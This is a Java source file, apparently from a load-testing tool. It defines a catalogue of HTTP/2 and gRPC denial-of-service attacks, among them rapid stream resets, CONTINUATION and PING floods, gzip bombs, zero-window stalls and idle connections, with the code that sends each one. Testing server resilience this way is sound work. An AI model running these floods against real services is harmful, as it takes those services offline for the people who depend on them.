package io.ganglion.loadgen.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.util.ArrayDeque;
import java.util.Arrays;
import java.util.Deque;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/** The attacks. Stateless. */
public enum Attack {
  /** Calls that are reset as soon as they have begun. */
  RESETS("HEADERS and RST_STREAM, over and over") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.frame(RawHttp2.RST_STREAM, 0, to.call(null), RawHttp2.number(CANCEL));
      }
    }
  },
  /** Whole calls that nobody waits for. */
  WHOLE_RESETS("calls with a whole message and RST_STREAM, over and over") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        int call = to.call(null);
        to.data(call, QUESTION, true);
        to.frame(RawHttp2.RST_STREAM, 0, call, RawHttp2.number(CANCEL));
      }
    }
  },
  /** Calls that the server itself must reset. */
  MADE_YOU_RESET("calls with a whole message and a WINDOW_UPDATE of 0, for which they are reset") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        int call = to.call(null);
        to.data(call, QUESTION, true);
        to.frame(RawHttp2.WINDOW_UPDATE, 0, call, RawHttp2.number(0));
      }
    }
  },
  /** Calls of what is not there. */
  UNKNOWN_CALLS("calls of a method that the server does not have") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.data(to.unknownCall(), QUESTION, true);
      }
    }
  },
  /** Requests that are refused after they were read. */
  BLANK_TEXTS("requests of 60 KB of spaces, each of them invalid") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      byte[] blank = message(0, text(" ".repeat(60_000)));
      while (!siege.over()) {
        to.data(to.call(null), blank, true);
      }
    }
  },
  /** Texts that are dear to normalize: marks in the opposite of their order, on one letter. */
  MARKS("requests of 60 KB of combining marks on one letter") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      byte[] marks = message(0, text("a" + "\u0345\u0301\u0316".repeat(10_000)));
      while (!siege.over()) {
        to.data(to.call(null), marks, true);
      }
    }
  },
  /** Headers that are larger than anybody's. */
  LARGE_HEADERS("calls with 14 KB of headers") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.largeCall(14_000);
      }
    }
  },
  /** Priorities of nothing. */
  PRIORITIES("PRIORITY, over and over") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      for (int stream = 1; !siege.over(); stream = (stream + 2) & 0xffff) {
        to.frame(RawHttp2.PRIORITY, 0, stream, new byte[5]);
      }
    }
  },
  /** A client that lets nothing be sent, and then a byte at a time. */
  SMALL_WINDOWS("1,000 calls whose answers have no window, and then one that opens and shuts") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      byte[] shut = {0, 4, 0, 0, 0, 0};
      byte[] open = {0, 4, 0, 0, 0, 1};
      to.frame(RawHttp2.SETTINGS, 0, 0, shut);
      for (int call = 0; call < 1_000; call++) {
        to.data(to.call(null), QUESTION, true);
      }
      while (!siege.over()) {
        to.frame(RawHttp2.SETTINGS, 0, 0, open);
        to.frame(RawHttp2.SETTINGS, 0, 0, shut);
      }
    }
  },
  /** Connections that come and go. */
  CHURN("connections that greet, ask once and leave") {
    @Override
    void assault(Siege siege) throws IOException {
      while (!siege.over()) {
        siege.connect(
            socket -> {
              RawHttp2 to = RawHttp2.greetAndReadNothing(socket);
              to.data(to.call(null), QUESTION, true);
              to.flush();
            });
      }
    }
  },
  /** Settings that change nothing; each must be confirmed. */
  SETTINGS("SETTINGS, over and over") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.frame(RawHttp2.SETTINGS, 0, 0, new byte[0]);
      }
    }
  },
  /** Pings; each must be answered. */
  PINGS("PING, over and over") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.frame(RawHttp2.PING, 0, 0, new byte[8]);
      }
    }
  },
  /** Answers to pings of nobody. */
  PING_ANSWERS("answers to a PING that nobody sent") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.frame(RawHttp2.PING, RawHttp2.ACK, 0, new byte[8]);
      }
    }
  },
  /** Data without bytes. */
  EMPTY_DATA("DATA without a byte, on one call") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      int call = to.call(null);
      while (!siege.over()) {
        to.frame(RawHttp2.DATA, 0, call, new byte[0]);
      }
    }
  },
  /** Window updates of one byte. */
  WINDOW_UPDATES("WINDOW_UPDATE of one byte, over and over") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      while (!siege.over()) {
        to.frame(RawHttp2.WINDOW_UPDATE, 0, 0, RawHttp2.number(1));
      }
    }
  },
  /** Headers that never end. */
  CONTINUATIONS("headers that never end") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      int call = to.endlessHeaders();
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      RawHttp2.header(block, "x", "y");
      while (!siege.over()) {
        to.frame(RawHttp2.CONTINUATION, 0, call, block.toByteArray());
      }
    }
  },
  /** Messages of a few KB that become megabytes. */
  GZIP_BOMBS("messages of 4 KB in gzip that become 4 MiB") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      byte[] bomb = message(1, zip(new byte[4 << 20]));
      while (!siege.over()) {
        to.data(to.call("gzip"), bomb, true);
      }
    }
  },
  /** Messages that lack their last byte. */
  HALF_MESSAGES("messages of 512 KiB without their last byte, 100 calls on a connection") {
    @Override
    void frames(Siege siege, RawHttp2 to) throws IOException {
      byte[] whole = message(0, new byte[512 << 10]);
      for (int call = 0; call < 100; call++) {
        to.data(to.call(null), Arrays.copyOf(whole, whole.length - 1), false);
      }
      to.flush();
      siege.hold();
    }
  },
  /** Connections that greet and say nothing more. */
  SILENCE("900 connections that greet and say nothing more") {
    @Override
    void assault(Siege siege) throws IOException {
      for (int i = 0; i < 900 && !siege.over(); i++) {
        RawHttp2.greetAndReadNothing(siege.leave(false));
      }
      siege.hold();
    }
  },
  /** Answers that nobody reads. */
  UNREAD_ANSWERS("calls whose answers are never read") {
    @Override
    void assault(Siege siege) throws IOException {
      siege.connect(
          socket -> {
            RawHttp2 to = RawHttp2.greetAndReadNothing(socket);
            while (!siege.over()) {
              to.data(to.call(null), QUESTION, true);
            }
          });
    }
  },
  /** Bytes that are no HTTP/2. */
  GARBAGE("random bytes on new connections") {
    @Override
    void assault(Siege siege) throws IOException {
      byte[] bytes = new byte[1 << 12];
      new Random().nextBytes(bytes);
      siege.connect(
          socket -> {
            while (!siege.over()) {
              socket.getOutputStream().write(bytes);
            }
          });
    }
  },
  /** A place in the queue for everything that one has. */
  HOARD("10,000 items in flight on four connections, 50 ms for each") {
    @Override
    void assault(Siege siege) throws IOException {
      Hoarder.hoard(siege);
    }
  },
  /** One byte for the port of probes. */
  METRICS_BYTE("one byte on each of many connections to the port of probes") {
    @Override
    void assault(Siege siege) throws IOException {
      Deque<Socket> open = new ArrayDeque<>();
      while (!siege.over()) {
        Socket socket = siege.leave(true);
        socket.getOutputStream().write("G".getBytes(US_ASCII));
        open.add(socket);
        if (open.size() > MOST_OPEN) {
          open.remove().close();
        }
        siege.hold(1);
      }
    }
  };

  private static final int CANCEL = 8;

  private static final byte[] QUESTION = message(0, text("a cat"));

  /** Fewer than the attacker may have files open. */
  private static final int MOST_OPEN = 500;

  private final String what;

  Attack(String what) {
    this.what = what;
  }

  /** What is sent, in a few words. */
  public String what() {
    return what;
  }

  /** Its name on the command line. */
  public String id() {
    return name().toLowerCase(Locale.ROOT).replace('_', '-');
  }

  /** The attack of that name. */
  public static Optional<Attack> of(String id) {
    return Arrays.stream(values()).filter(attack -> attack.id().equals(id)).findFirst();
  }

  /** Does it until the server cuts it, or the siege is over. */
  void assault(Siege siege) throws IOException {
    siege.connect(
        socket -> {
          RawHttp2 to = RawHttp2.greet(socket);
          frames(siege, to);
        });
  }

  void frames(Siege siege, RawHttp2 to) throws IOException {
    throw new IllegalStateException(this + " writes no frames");
  }

  /** A request with text_a alone. */
  private static byte[] text(String text) {
    byte[] bytes = text.getBytes(UTF_8);
    ByteArrayOutputStream request = new ByteArrayOutputStream();
    request.write(0x0a);
    int length = bytes.length;
    for (; length > 0x7f; length >>= 7) {
      request.write(length | 0x80);
    }
    request.write(length);
    request.writeBytes(bytes);
    return request.toByteArray();
  }

  /** A message of gRPC: whether it is compressed, its length, its bytes. */
  private static byte[] message(int compressed, byte[] content) {
    ByteArrayOutputStream message = new ByteArrayOutputStream();
    message.write(compressed);
    message.writeBytes(RawHttp2.number(content.length));
    message.writeBytes(content);
    return message.toByteArray();
  }

  private static byte[] zip(byte[] content) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream zip = new GZIPOutputStream(bytes)) {
      zip.write(content);
    }
    return bytes.toByteArray();
  }
}
